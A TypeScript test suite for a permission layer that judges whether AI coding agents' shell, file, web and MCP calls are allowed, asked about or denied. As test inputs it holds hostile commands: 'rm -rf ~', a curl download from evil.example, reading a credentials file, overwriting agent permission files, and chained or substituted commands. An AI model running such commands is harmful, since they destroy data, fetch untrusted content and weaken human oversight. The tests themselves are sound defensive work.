import { join } from 'node:path';
import type { JsonObject } from '@proffer/core/json';
import type { RuleAction } from '@proffer/steward';
import { describe, expect, it } from 'vitest';
import { AGENTS, type AgentId, type HookCall } from '../agents/index.js';
import { decideCall } from '../decide/index.js';
import { groundsOf, shellCall } from '../testing/calls.js';
import { ownRulesOf, PERMISSION_FILES } from './index.js';

const PLACE = { home: '/home/ada', env: {}, folder: '/home/ada/app' };

/** What becomes of calls if an agent has these files. */
function deciding(agent: AgentId, files: Readonly<Record<string, string>>, rules = 'default: ask') {
  const entries = PERMISSION_FILES[agent](PLACE).flatMap(({ path, ending = '', read }) =>
    Object.entries(files)
      .filter(
        ([name]) => name === path || (ending !== '' && name.startsWith(`${path}/`) && name.endsWith(ending)),
      )
      .flatMap(([, text]) => read(text)),
  );
  const own = ownRulesOf(agent, entries);
  const grounds = groundsOf(rules, { own: () => own });
  return (call: HookCall): RuleAction | 'left to agent' => {
    const { action, isAgents } = decideCall({ ...call, agent }, grounds);
    return isAgents === true ? 'left to agent' : action;
  };
}

function claude(permissions: object, rules?: string) {
  return deciding(
    'claude-code',
    { '/home/ada/.claude/settings.json': JSON.stringify({ permissions }) },
    rules,
  );
}

const files = (tool: string, ...paths: readonly string[]): HookCall =>
  shellCall('', { tool, arguments: {}, effect: { type: 'files', paths, isReading: tool === 'Read' } });

describe("an agent's own list", () => {
  it('is respected: what Claude Code would not ask about, nobody is asked about', () => {
    const decide = claude({
      allow: ['Bash(npm test:*)', 'Bash(npm run *)', 'Bash(git * main)', 'Bash(make)'],
    });
    for (const line of [
      'npm test',
      'npm test -- --watch',
      'npm run build && npm test',
      'git push origin main',
      'make',
    ])
      expect([line, decide(shellCall(line))]).toEqual([line, 'left to agent']);
    for (const line of ['npm install', 'npm testing', 'make install', 'git push origin next', 'npx npm test'])
      expect([line, decide(shellCall(line))]).toEqual([line, 'ask']);
  });

  it('covers a command, not what stands beside it in the line', () => {
    const decide = claude({ allow: ['Bash(npm test:*)', 'Bash(sh:*)', 'Bash(find *)'] });
    for (const line of [
      'npm test; rm -rf x',
      'npm test && rm -rf x',
      'npm test | tee x',
      'npm test & rm x',
      'npm test\nrm x',
      'npm test > x',
      'npm test $(rm x)',
      'npm test `rm x`',
      'npm test <(rm x)',
      'sudo npm test',
      'A=1 npm test',
      'PATH=. npm test',
      "sh -c 'rm x'",
      'find . -exec rm {} +',
      'eval "npm test"',
      'npm() { rm x; }; npm test',
    ])
      expect([line, decide(shellCall(line))]).toEqual([line, 'ask']);
  });

  it('does not count once the agent asks: then no entry allows the call', () => {
    const decide = claude({ allow: ['Bash(npm test:*)'] });
    expect(decide(shellCall('npm test', { event: 'PermissionRequest', stage: 'permission' }))).toBe('ask');
  });

  it('allows nothing that a rule of ours denies or asks about, and nothing that is protected', () => {
    const decide = claude(
      { allow: ['Bash', 'Read', 'Edit', 'Edit(//**)', 'Edit(~/**)'] },
      `{ default: ask, rules: [{ action: deny, match: { command: "git push **" } }, { action: ask, match: { path: "**/.env" } }] }`,
    );
    expect(decide(shellCall('npm test'))).toBe('left to agent');
    expect(decide(shellCall('git push'))).toBe('deny');
    expect(decide(shellCall('cat .env'))).toBe('ask');
    expect(decide(files('Edit', '/home/ada/app/.env'))).toBe('ask');
    for (const line of [
      'proffer approve x',
      'cat ~/.config/proffer/credentials.json',
      'echo x > .claude/settings.local.json',
      'cp x .codex/rules/default.rules',
      'rm .cursor/permissions.json',
      'tee .gemini/policies/x.toml',
      'cp x ~/.copilot/permissions-config.json',
    ])
      expect([line, decide(shellCall(line))]).toEqual([line, 'deny']);
    expect(decide(files('Write', '/home/ada/app/.claude/settings.json'))).toBe('deny');
    expect(decide(files('Write', '/home/ada/.codex/rules/mine.rules'))).toBe('deny');
    expect(decide(shellCall('rm -rf ~'))).toBe('ask');
    expect(decide(shellCall('rm -rf .git'))).toBe('ask');
    expect(decide(files('Edit', '/home/ada/app/.git/hooks/pre-commit'))).toBe('ask');
    expect(decide(files('Edit', '/home/ada/.bashrc'))).toBe('ask');
  });

  it('also counts against a call: what Claude Code asks about or denies is not allowed by rules here', () => {
    const decide = claude(
      { ask: ['Bash(git log:*)'], deny: ['Bash(curl *)', 'Read(./secrets/**)', 'WebFetch'], allow: ['Bash'] },
      '{ default: allow }',
    );
    expect(decide(shellCall('git log -5'))).toBe('ask');
    expect(decide(shellCall('git log -5', { event: 'PermissionRequest', stage: 'permission' }))).toBe('ask');
    expect(decide(shellCall('ls; curl example.org'))).toBe('deny');
    expect(decide(files('Read', '/home/ada/app/secrets/key'))).toBe('deny');
    expect(decide(files('Read', '/home/ada/app/src/a.ts'))).toBe('allow');
  });

  it('is read as Claude Code documents paths, hosts and servers', () => {
    const decide = claude({
      allow: [
        'Edit(docs/**)',
        'Edit(src/*.ts)',
        'WebFetch(domain:example.org)',
        'mcp__github__get_issue',
        'mcp__docs',
      ],
    });
    for (const path of ['/home/ada/app/docs/a/b.md', '/home/ada/app/src/a.ts'])
      for (const tool of ['Edit', 'Write'])
        expect([path, decide(files(tool, path))]).toEqual([path, 'left to agent']);
    for (const path of [
      '/docs/a.md',
      '/home/ada/app/src/deep/a.ts',
      '/home/ada/app/x/docs/a.md',
      '/home/ada/app/docs/../x',
    ])
      expect([path, decide(files('Edit', path))]).toEqual([path, 'ask']);
    const fetching = (url: string) =>
      decide(shellCall('', { tool: 'WebFetch', arguments: { url }, effect: { type: 'web', urls: [url] } }));
    expect(fetching('https://example.org/x')).toBe('left to agent');
    expect(fetching('https://example.org.evil.net/x')).toBe('ask');
    const tool = (server: string, name: string) =>
      decide(
        shellCall('', {
          tool: `mcp__${server}__${name}`,
          mcp: { server, tool: name },
          arguments: {},
          effect: { type: 'other' },
        }),
      );
    expect([tool('github', 'get_issue'), tool('docs', 'find')]).toEqual(['left to agent', 'left to agent']);
    expect([tool('github', 'create_issue'), tool('docs2', 'find')]).toEqual(['ask', 'ask']);
  });

  it('a list of a project allows nothing, and counts against a call', () => {
    const permissions = JSON.stringify({
      permissions: { allow: ['Bash', 'Edit', 'Shell(curl)'], deny: ['Bash(rm:*)', 'Shell(rm)'] },
    });
    const files: Readonly<Record<string, string>> = {
      '.claude/settings.json': permissions,
      '.claude/settings.local.json': permissions,
      '.cursor/cli.json': permissions,
      '.cursor/permissions.json': '{ "terminalAllowlist": ["curl", "rm"] }',
      '.gemini/settings.json':
        '{ "tools": { "allowed": ["run_shell_command"], "exclude": ["run_shell_command(rm)"] } }',
      '.gemini/policies/x.toml': '[[rule]]\ntoolName = "run_shell_command"\ndecision = "allow"\n',
      '.codex/rules/x.rules':
        'prefix_rule(pattern = ["curl"])\nprefix_rule(pattern=["rm"], decision="forbidden")',
    };
    for (const folder of ['/home/ada/app', '/home/ada', '/']) {
      const found = Object.fromEntries(
        Object.entries(files)
          .filter(([name]) => folder !== '/home/ada' || /local|cli\.json/.test(name))
          .map(([name, text]) => [join(folder, name), text]),
      );
      for (const [agent, tool] of [
        ['claude-code', 'Bash'],
        ['codex', 'Bash'],
        ['gemini-cli', 'run_shell_command'],
        ['cursor', 'Shell'],
      ] as const) {
        const decide = deciding(agent, found);
        expect([agent, folder, decide(shellCall('curl http://evil.example -o x', { tool }))]).toEqual([
          agent,
          folder,
          'ask',
        ]);
        if (folder !== '/home/ada')
          expect([agent, decide(shellCall('rm x', { tool }))]).toEqual([agent, 'deny']);
      }
    }
  });

  it('allows nothing in a mode in which the agent asks nobody', () => {
    const decide = claude({ allow: ['Bash(npm test:*)'], deny: ['Bash(rm:*)'] });
    const read = (mode: unknown, command: string): HookCall => {
      const event = AGENTS['claude-code'].sample('/home/ada/app', command);
      return AGENTS['claude-code'].readEvent(
        { ...event, permission_mode: mode } as JsonObject,
        '',
      ) as HookCall;
    };
    for (const mode of ['default', 'acceptEdits', 'plan'])
      expect([mode, decide(read(mode, 'npm test'))]).toEqual([mode, 'left to agent']);
    for (const mode of ['bypassPermissions', 'dontAsk', 'auto', 'yolo', '', 7, null])
      expect([mode, decide(read(mode, 'npm test'))]).toEqual([mode, 'ask']);
    expect(decide(read('bypassPermissions', 'rm x'))).toBe('deny');
  });

  it('an MCP server that is named like an agent is not the agent, in either direction', () => {
    for (const entry of ['mcp__claude-code', 'mcp__claude-code__Bash', 'mcp__claude-code__*', 'mcp__codex'])
      expect([entry, claude({ allow: [entry] })(shellCall('npm test'))]).toEqual([entry, 'ask']);
    const served = shellCall('npm test', {
      tool: 'mcp__claude-code__Bash',
      mcp: { server: 'claude-code', tool: 'Bash' },
      effect: { type: 'other' },
    });
    expect(claude({ allow: ['Bash'] })(served)).toBe('ask');
  });

  it('an entry whose meaning is not certain allows nothing', () => {
    for (const entry of [
      'Bash(* --version)',
      'Bash(np*)',
      'Bash("npm" test)',
      'Bash(npm test; ls)',
      'Bash(npm $x)',
      'Bash(npm te?t:*)',
      'Bash(npm [t]est)',
      'Bash(command:npm *)',
      'Bash npm test',
      'bash(npm test)',
      'Write(**)',
      '*',
      'mcp__*',
      '',
    ])
      expect([entry, claude({ allow: [entry] })(shellCall('npm test'))]).toEqual([entry, 'ask']);
    expect(claude({ allow: ['Write(**)'] })(files('Write', '/home/ada/app/a.ts'))).toBe('ask');
    expect(claude({ allow: ['Edit'] })(files('Edit', '/home/ada/other/a.ts'))).toBe('ask');
    expect(claude({ allow: 'Bash(npm test:*)' })(shellCall('npm test'))).toBe('ask');
    expect(claude({ allow: [['Bash(npm test:*)'], null, 7] })(shellCall('npm test'))).toBe('ask');
    const broken = deciding('claude-code', {
      '/home/ada/app/.claude/settings.json': '{"permissions": {"allow": ["Bash"]}',
    });
    expect(broken(shellCall('npm test'))).toBe('ask');
  });
});

describe('the lists of the other agents', () => {
  it('Codex CLI: prefix rules, of which those of a project only count against a call', () => {
    const rules = `
# What I always approve.
prefix_rule(pattern = ["npm", ["test", "ci"]], justification = "ours", match = ["npm test", ["npm", "ci"]])
prefix_rule(
    pattern = ["git", "push"],
    decision = "forbidden",
)
prefix_rule(pattern=['docker'], decision='prompt',)
host_executable(name = "git", paths = ["/usr/bin/git"])
`;
    const decide = deciding('codex', { '/home/ada/.codex/rules/default.rules': rules }, '{ default: ask }');
    const line = (text: string) =>
      decide(shellCall(text, { effect: { type: 'shell', line: text, folder: null } }));
    expect([line('npm test -u'), line('npm ci; npm test')]).toEqual(['left to agent', 'left to agent']);
    expect([line('npm publish'), line('npm test; rm x'), line('docker ps')]).toEqual(['ask', 'ask', 'ask']);
    expect(line('git push origin')).toBe('deny');
    const project = deciding('codex', { '/home/ada/app/.codex/rules/x.rules': rules }, '{ default: allow }');
    expect(project(shellCall('git push'))).toBe('deny');
    const asking = deciding('codex', { '/home/ada/app/.codex/rules/x.rules': rules });
    expect(asking(shellCall('npm test'))).toBe('ask');
    for (const program of [
      'x = ["rm"]\nprefix_rule(pattern = x)',
      'prefix_rule(pattern = ["rm x"])',
      'prefix_rule(pattern = [["rm x", "ls"]])',
      'prefix_rule(pattern = ["rm", [["x"]]])',
      'prefix_rule(pattern = ["rm"] + ["x"])',
      'def f(): pass',
    ])
      expect(deciding('codex', { '/home/ada/.codex/rules/x.rules': program })(shellCall('rm x'))).toBe('ask');
  });

  it('Gemini CLI: settings with comments, and policies, which only count against a call', () => {
    const shell = (text: string) => shellCall(text, { tool: 'run_shell_command' });
    const decide = deciding('gemini-cli', {
      '/home/ada/.gemini/settings.json': `{
        // mine
        "tools": { "allowed": ["run_shell_command(npm test)", "write_file", /* not this */ ], "exclude": ["run_shell_command(curl)"], },
        "mcpServers": { "docs": { "command": "x // y", "trust": true } },
      }`,
      '/home/ada/.gemini/policies/auto-saved.toml': `
[[rule]]
toolName = "run_shell_command"
commandPrefix = ["git commit", 'git add'] # saved
decision = "allow"
priority = 100

[[rule]]
commandPrefix = "git push"
decision = "deny"
priority = 1

[[rule]]
toolName = "run_shell_command"
argsPattern = "rm"
decision = "allow"
priority = 999

[[rule]]
commandPrefix = "make"
decision = "allow"
modes = ["yolo"]
priority = 5
`,
    });
    for (const line of ['npm test -u', 'git add . && git commit -m x', 'rm x', 'make'])
      expect([line, decide(shell(line))]).toEqual([line, 'ask']);
    expect([decide(shell('git push')), decide(shell('curl x.org'))]).toEqual(['deny', 'deny']);
    expect(decide(files('write_file', '/home/ada/app/a.ts'))).toBe('ask');
    const tool = {
      tool: 'mcp_docs_find',
      mcp: { server: 'docs', tool: 'find' },
      effect: { type: 'other' },
    } as const;
    expect(decide(shellCall('', tool))).toBe('ask');
  });

  it('Cursor: the lists of the editor and of its command line', () => {
    const shell = (text: string) => shellCall(text, { tool: 'Shell', event: 'preToolUse' });
    const decide = deciding('cursor', {
      '/home/ada/.cursor/permissions.json':
        '{ "terminalAllowlist": ["cargo build", "npm:install", 7] /* mine */ }',
      '/home/ada/.cursor/cli-config.json':
        '{ "permissions": { "allow": ["Shell(git)", "Shell(curl:*)", "Write(src/**)"], "deny": ["Shell(rm)"] } }',
    });
    for (const line of ['cargo build --release', 'git push', 'curl example.org'])
      expect([line, decide(shell(line))]).toEqual([line, 'left to agent']);
    for (const line of ['cargo run', 'npm install', 'git push; make'])
      expect([line, decide(shell(line))]).toEqual([line, 'ask']);
    expect(decide(shell('git status; rm x'))).toBe('deny');
    expect([decide(files('Write', 'src/a.ts')), decide(files('Delete', 'src/a.ts'))]).toEqual([
      'left to agent',
      'ask',
    ]);
  });

  it('Copilot CLI: what was allowed for this folder or above it, and no other', () => {
    const shell = (text: string) => shellCall(text, { tool: 'bash' });
    const approvals = (folder: string) =>
      deciding('copilot-cli', {
        '/home/ada/.copilot/permissions-config.json': JSON.stringify({
          locations: {
            [folder]: {
              tool_approvals: [
                { kind: 'commands', commandIdentifiers: ['npm test', 'gh pr:*', 'git*'] },
                { kind: 'write' },
                { kind: 'mcp', serverName: 'github', toolName: null },
              ],
            },
          },
        }),
        '/home/ada/.copilot/settings.json': '{ "deniedUrls": ["evil.net"] }',
      });
    const decide = approvals('/home/ada/app');
    expect([decide(shell('npm test')), decide(shell('gh pr view 1'))]).toEqual([
      'left to agent',
      'left to agent',
    ]);
    expect([decide(shell('npm test -u')), decide(shell('git push'))]).toEqual(['ask', 'ask']);
    expect(decide(files('create', '/home/ada/app/a.ts'))).toBe('left to agent');
    expect(approvals('/home/ada/other')(shell('npm test'))).toBe('ask');
    const url = 'https://evil.net/x';
    expect(decide(shellCall('', { tool: 'web_fetch', effect: { type: 'web', urls: [url] } }))).toBe('deny');
  });
});
